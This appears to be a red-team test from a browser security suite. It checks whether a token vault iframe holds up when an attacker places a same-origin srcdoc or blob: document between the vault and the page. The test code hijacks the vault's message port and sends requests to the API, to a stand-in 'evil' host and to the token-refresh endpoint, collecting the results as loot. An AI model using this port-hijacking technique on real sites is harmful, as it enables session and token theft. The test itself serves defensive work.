// A real attacker: puts a document of the application's origin in between (`srcdoc`, `about:blank`, `blob:`), so that
// the vault's parent is not the page the user sees.
export default {
  row: "frames",
  expected: [null, "loses"],
  after: async ({ vault, api, evil }, redteam) => {
    const heard = [];
    redteam.hear = (data) => {
      heard.push(data[0]);
      redteam.loot(data);
    };
    const inner =
      `<iframe src="${vault}/"></iframe><script>
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => parent.redteam?.hear(data);
      const far = [port2];
      addEventListener("message", ({ source }) => source.postMessage("strongroom:port", "*", far.splice(0)));
      ["${api}/v1/me", "${evil}/v1/me", "${vault}/auth/refresh"].forEach((url, i) =>
        port1.postMessage([0, i + 1, url, [], { method: "GET" }, true]));
      parent.redteam.between = (parent.redteam.between ?? 0) + 1;</` + "script>";
    redteam.frame({ srcdoc: inner });
    redteam.frame({ src: URL.createObjectURL(new Blob([inner], { type: "text/html" })) });
    await redteam.until(() => redteam.between === 2);
    await redteam.wait(2000);
    return { between: redteam.between, heard };
  },
  // Both documents have run, and the vault was asked for its page in each.
  reached: ({ brought, seen }) =>
    brought.between === 2 &&
    seen.filter(({ name, path, method }) => name === "vault" && path === "/" && method === "GET").length >= 3,
};
